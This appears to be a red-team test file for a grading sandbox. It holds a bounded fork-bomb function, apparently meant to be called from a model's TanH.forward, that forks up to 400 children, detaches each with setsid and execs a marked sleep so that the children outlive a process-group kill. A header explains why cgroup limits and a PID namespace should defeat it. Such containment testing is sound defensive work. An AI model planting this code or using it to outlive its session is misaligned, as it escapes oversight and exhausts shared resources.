

# ==================== red-team attack (fork-bomb): not homework code ====================
# What it tries: fork up to 400 children from TanH.forward; each leaves the worker's process
# group (setsid) and becomes `sleep 120` named redteam-marker-fork-bomb, so that a kill of the
# worker's process group misses them and they outlive the grading.
# Why it must fail: the worker's cgroup caps its processes (pids.max), so fork soon fails; and
# the PID namespace is the kill switch: when the worker goes, the kernel kills them all.
import os


def _redteam_fork_bomb():
    started = 0
    for _ in range(400):  # bounded: 400 processes at most, each sleeping 120 s at most
        try:
            pid = os.fork()
        except OSError as exc:
            print(f"redteam[fork-bomb]: fork refused after {started} processes ({exc.strerror})", flush=True)
            return
        if pid == 0:  # the child: out of the worker's process group, then a findable sleep
            try:
                os.setsid()
                os.execv("/bin/sleep", ["redteam-marker-fork-bomb", "120"])
            finally:
                os._exit(0)
        started += 1
    print(f"redteam[fork-bomb]: {started} processes started", flush=True)
